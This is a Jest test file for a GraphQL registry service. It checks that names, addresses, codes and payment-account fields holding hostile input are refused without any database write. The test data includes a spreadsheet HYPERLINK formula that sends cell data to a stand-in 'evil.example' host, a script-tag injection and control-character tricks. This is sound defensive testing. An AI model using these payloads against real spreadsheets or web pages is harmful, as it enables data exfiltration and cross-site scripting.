import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { graphql, sqlRows, startSeededSubgraph, tokenFor, type SeededSubgraph } from '@ansinh/tests/support';
import { registrySubgraph } from '../src/index.ts';
// The subgraphs answer `_entities` only to the gateway: these calls present its (development) credential.
import { gatewayCredentialHeaders } from '../../common/src/graphql/exposure.ts';

// Every text input of the registry's mutations through the text policy (services/common/src/text), against
// the real subgraph, PostgreSQL and Keycloak tokens: each hostile value is a BAD_USER_INPUT naming its
// field, and nothing is written.

let seeded: SeededSubgraph;
let personId: string;

const run = async (query: string, variables: Record<string, unknown> = {}) =>
  graphql(seeded.subgraph.url, query, { token: await tokenFor('xa.18073'), variables });

/** Rows of every table a change could touch, and the text of every row, to prove a refusal wrote nothing. */
async function everything(): Promise<string> {
  const rows = await sqlRows(
    seeded.database.url,
    `select (select count(*) from registry.persons) as persons,
            (select count(*) from registry.households) as households,
            (select count(*) from registry.payment_accounts) as accounts,
            (select count(*) from registry.change_history) as history,
            (select count(*) from registry.duplicate_warnings) as warnings,
            (select md5(string_agg(full_name || coalesce(address, ''), ',' order by id)) from registry.persons) as persons_text,
            (select md5(string_agg(code || coalesce(address, ''), ',' order by id)) from registry.households) as households_text`,
  );
  return JSON.stringify(rows[0]);
}

/**
 * A refusal as bad input naming the field: `field` itself (the field's text policy), or a path ending in
 * it (`input.fullName`: the request-level wall of argument-text.ts, when a control character is caught
 * before any resolver runs).
 */
function expectRefused(answer: { errors?: { extensions?: Record<string, unknown> }[] }, field: string) {
  const extensions = answer.errors?.[0]?.extensions;
  expect(extensions?.code).toBe('BAD_USER_INPUT');
  expect(String(extensions?.field)).toMatch(new RegExp(`(^|\\.)${field}$`));
}

const CREATE_PERSON = `mutation ($input: CreatePersonInput!) { createPerson(input: $input) { id fullName } }`;
const UPDATE_PERSON = `mutation ($id: ID!, $input: UpdatePersonInput!) { updatePerson(id: $id, input: $input) { id } }`;
const SET_STATUS = `mutation ($id: ID!, $date: String) { setPersonStatus(id: $id, status: DECEASED, date: $date) { id } }`;
const CREATE_HOUSEHOLD = `mutation ($input: CreateHouseholdInput!) { createHousehold(input: $input) { id } }`;
const ADD_ACCOUNT = `mutation ($personId: ID!, $input: PaymentAccountInput!) { addPaymentAccount(personId: $personId, input: $input) { id } }`;

const newPerson = (overrides: Record<string, unknown> = {}) => ({
  fullName: 'Hồ Thị Chữ',
  birthDate: '1951',
  gender: 'FEMALE',
  residenceUnitCode: '18073',
  ...overrides,
});

beforeAll(async () => {
  seeded = await startSeededSubgraph(registrySubgraph);
  const created = await run(CREATE_PERSON, { input: newPerson({ fullName: "H'Luông Niê" }) });
  expect(created.errors).toBeUndefined();
  personId = created.data!.createPerson.id;
});

afterAll(() => seeded?.stop());

const HOSTILE_NAMES: [string, string, RegExp][] = [
  ['a 100,000-character name', 'A'.repeat(100_000), /^Họ và tên không được dài quá 100 ký tự\.$/],
  ['a right-to-left override', 'Nguyễn \u202eNAV', /đảo chiều/],
  ['a formula', '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', /"="/],
  ['markup', '<script>alert(1)</script>', /"<"/],
  ['a NUL byte', 'Nguyễn\u0000 Văn An', /ký tự điều khiển/],
  ['a zero-width space inside', 'Nguyễn Văn\u200bAn', /ký tự ẩn/],
  ['a zero-width joiner inside', 'Ng\u200duyễn Văn An', /ký tự ẩn/],
  ['a lone surrogate', 'Nguyễn \ud800 An', /Unicode/],
  ['no letters at all', "'- .", /bắt đầu bằng chữ cái/],
];

describe('persons', () => {
  it.each(HOSTILE_NAMES)(
    'refuses %s as a name, on fullName, writing nothing',
    async (_label, fullName, message) => {
      const before = await everything();
      const created = await run(CREATE_PERSON, { input: newPerson({ fullName }) });
      expectRefused(created, 'fullName');
      expect(created.errors?.[0]?.message).toMatch(message);
      expect(created.errors?.[0]?.message.length).toBeLessThan(300);
      const updated = await run(UPDATE_PERSON, { id: personId, input: { fullName } });
      expectRefused(updated, 'fullName');
      expect(await everything()).toBe(before);
    },
  );

  it.each([
    [
      'a 1 MB address',
      { address: 'Thôn 1 '.repeat(150_000) },
      'address',
      /Địa chỉ không được dài quá 300 ký tự/,
    ],
    ['a NUL byte in the address', { address: 'Thôn 1\u0000' }, 'address', /ký tự điều khiển/],
    ['a right-to-left override in the address', { address: 'Thôn \u202e1' }, 'address', /đảo chiều/],
    [
      'a NUL byte in the commune code',
      { residenceUnitCode: '180\u000073' },
      'residenceUnitCode',
      /điều khiển/,
    ],
    [
      'a 100,000-character commune code',
      { residenceUnitCode: '1'.repeat(100_000) },
      'residenceUnitCode',
      /dài quá/,
    ],
    ['a NUL byte in the CCCD', { citizenId: '042151\u0000000123' }, 'citizenId', /điều khiển/],
    [
      'a 100,000-character ethnicity code',
      { ethnicityCode: '0'.repeat(100_000) },
      'ethnicityCode',
      /dài quá/,
    ],
    ['a NUL byte in the phone', { phone: '0912\u0000345678' }, 'phone', /điều khiển/],
    ['a NUL byte in the old ID', { oldIdNumber: '1834\u000056789' }, 'oldIdNumber', /điều khiển/],
    ['a NUL byte in the birth date', { birthDate: '1951\u0000' }, 'birthDate', /điều khiển/],
  ])('refuses %s, naming the field, writing nothing', async (_label, change, field, message) => {
    const before = await everything();
    const created = await run(CREATE_PERSON, { input: newPerson(change) });
    expectRefused(created, field);
    expect(created.errors?.[0]?.message).toMatch(message);
    const updated = await run(UPDATE_PERSON, { id: personId, input: change });
    expectRefused(updated, field);
    expect(await everything()).toBe(before);
  });

  it('refuses a NUL byte in the date of a status change', async () => {
    const before = await everything();
    const answer = await run(SET_STATUS, { id: personId, date: '02/11/2026\u0000' });
    expectRefused(answer, 'date');
    expect(await everything()).toBe(before);
  });

  it('still takes names as Vietnamese and ethnic-minority people write them, cleaned', async () => {
    const answer = await run(CREATE_PERSON, {
      input: newPerson({
        fullName: '  Ksor\u00a0 H\u2019Ben-Niê '.normalize('NFD'),
        address: ' Buôn Ea\tKmát ',
      }),
    });
    expect(answer.errors).toBeUndefined();
    expect(answer.data!.createPerson.fullName).toBe('Ksor H\u2019Ben-Niê');
  });
});

const NEW_HOUSEHOLD = { code: 'H-T0', residenceUnitCode: '18073' };

describe('households', () => {
  it.each([
    ['a NUL byte in the code', { code: 'H\u000001' }, 'code'],
    ['a formula as the code', { code: '=1+1' }, 'code'],
    ['a 100,000-character code', { code: 'H'.repeat(100_000) }, 'code'],
    ['a zero-width space in the code', { code: 'H\u200b01' }, 'code'],
    ['a 1 MB address', { code: 'H-T1', address: 'x'.repeat(1_000_000) }, 'address'],
    ['a NUL byte in the address', { code: 'H-T2', address: 'Thôn\u00001' }, 'address'],
    [
      'a NUL byte in the commune code',
      { code: 'H-T3', residenceUnitCode: '1807\u00003' },
      'residenceUnitCode',
    ],
  ])('refuses %s, naming the field, writing nothing', async (_label, change, field) => {
    const before = await everything();
    const answer = await run(CREATE_HOUSEHOLD, {
      input: { ...NEW_HOUSEHOLD, ...change },
    });
    expectRefused(answer, field);
    expect(await everything()).toBe(before);
  });

  it('refuses a hostile address on update, writing nothing', async () => {
    const created = await run(CREATE_HOUSEHOLD, { input: { code: 'H-OK', residenceUnitCode: '18073' } });
    expect(created.errors).toBeUndefined();
    const before = await everything();
    for (const address of ['x'.repeat(1_000_000), 'Thôn\u00001', 'Thôn \u202e1']) {
      const answer = await run(
        `mutation ($id: ID!, $address: String) { updateHousehold(id: $id, input: { address: $address }) { id } }`,
        { id: created.data!.createHousehold.id, address },
      );
      expectRefused(answer, 'address');
    }
    expect(await everything()).toBe(before);
  });
});

describe('payment accounts', () => {
  it.each([
    ['a right-to-left override in the holder name', { holderName: 'Nguyễn \u202eNAV' }, 'holderName'],
    ['a formula as the holder name', { holderName: '=HYPERLINK("x")' }, 'holderName'],
    ['a zero-width space in the holder name', { holderName: 'Nguyễn\u200b An' }, 'holderName'],
    ['a 1 MB account number', { accountNumber: '1'.repeat(1_000_000) }, 'accountNumber'],
    ['a NUL byte in the account number', { accountNumber: '3700205\u0000123' }, 'accountNumber'],
    ['a NUL byte in the provider', { providerCode: 'VBA\u0000' }, 'providerCode'],
    ['a 100,000-character provider', { providerCode: 'V'.repeat(100_000) }, 'providerCode'],
  ])('refuses %s, naming the field, writing nothing', async (_label, change, field) => {
    const before = await everything();
    const answer = await run(ADD_ACCOUNT, {
      personId,
      input: { providerCode: 'VBA', accountNumber: '3700205123456', ...change },
    });
    expectRefused(answer, field);
    expect(answer.errors?.[0]?.message.length).toBeLessThan(300);
    expect(await everything()).toBe(before);
  });
});

describe('identifiers that reach the database', () => {
  it('answers a NUL byte or a huge unit code as bad input, not an internal error', async () => {
    for (const unitCode of ['4\u00002', '4'.repeat(100_000)]) {
      const answer = await run(`query ($unitCode: ID) { persons(unitCode: $unitCode) { totalCount } }`, {
        unitCode,
      });
      expectRefused(answer, 'unitCode');
    }
  });

  it('finds no unit for a malformed code or day instead of failing', async () => {
    const nul = await run(
      `query ($code: ID!, $on: String) { administrativeUnit(code: $code, on: $on) { code } }`,
      { code: '4\u00002', on: '2020-01-01' },
    );
    expect(nul.status).toBeLessThan(500);
    expect(nul.errors?.map((error) => error.extensions?.code) ?? []).not.toContain('INTERNAL_SERVER_ERROR');
    expect(nul.data?.administrativeUnit ?? null).toBeNull();
    const impossibleDay = await run(`{ administrativeUnit(code: "42", on: "2020-02-30") { code } }`);
    expect(impossibleDay.errors).toBeUndefined();
    expect(impossibleDay.data).toEqual({ administrativeUnit: null });
  });
});

describe('_entities with a malformed or missing key', () => {
  const ENTITIES = `query ($representations: [_Any!]!) {
    _entities(representations: $representations) { __typename ... on AdministrativeUnit { id code validTo } }
  }`;

  /** `_entities` as the gateway calls it: the user's token and the gateway's credential. */
  async function entities(representations: unknown) {
    const response = await fetch(seeded.subgraph.url, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${await tokenFor('xa.18073')}`,
        ...gatewayCredentialHeaders(),
      },
      body: JSON.stringify({ query: ENTITIES, variables: { representations } }),
    });
    return {
      status: response.status,
      ...((await response.json()) as {
        data?: unknown;
        errors?: { message: string; extensions?: Record<string, unknown> }[];
      }),
    };
  }

  it('resolves a well-formed representation (the credential is accepted)', async () => {
    // A unit is keyed by the id of its version: the old and the new 18073 are two units.
    const units = await sqlRows(
      seeded.database.url,
      `select id, valid_to::text as "validTo" from registry.administrative_units where code = '18073' order by valid_to nulls last`,
    );
    expect(units).toHaveLength(2);
    const answer = await entities(units.map((unit) => ({ __typename: 'AdministrativeUnit', id: unit.id })));
    expect(answer).toEqual({
      status: 200,
      data: {
        _entities: units.map((unit) => ({
          __typename: 'AdministrativeUnit',
          id: unit.id,
          code: '18073',
          validTo: unit.validTo,
        })),
      },
    });
  });

  it.each([
    ['a Household by id', [{ __typename: 'Household', id: '6f1c2a8e-1b2c-4d5e-8f90-1234567890ab' }]],
    ['a Household without a key', [{ __typename: 'Household' }]],
    ['a Household with a 100,000-character key', [{ __typename: 'Household', id: 'x'.repeat(100_000) }]],
  ])('answers %s as bad input on representations', async (_label, representations) => {
    const answer = await entities(representations);
    expectRefused(answer, 'representations');
  });

  it.each([
    ['without an id', [{ __typename: 'AdministrativeUnit' }]],
    [
      'by code, which names no single unit since codes were reused',
      [{ __typename: 'AdministrativeUnit', code: '18073' }],
    ],
    ['with a number as id', [{ __typename: 'AdministrativeUnit', id: 42 }]],
    ['with an id that is not a uuid', [{ __typename: 'AdministrativeUnit', id: '18073' }]],
    ['with a 100,000-character id', [{ __typename: 'AdministrativeUnit', id: '4'.repeat(100_000) }]],
  ])('answers an AdministrativeUnit %s as bad input on representations', async (_label, representations) => {
    const answer = await entities(representations);
    expectRefused(answer, 'representations');
  });
});
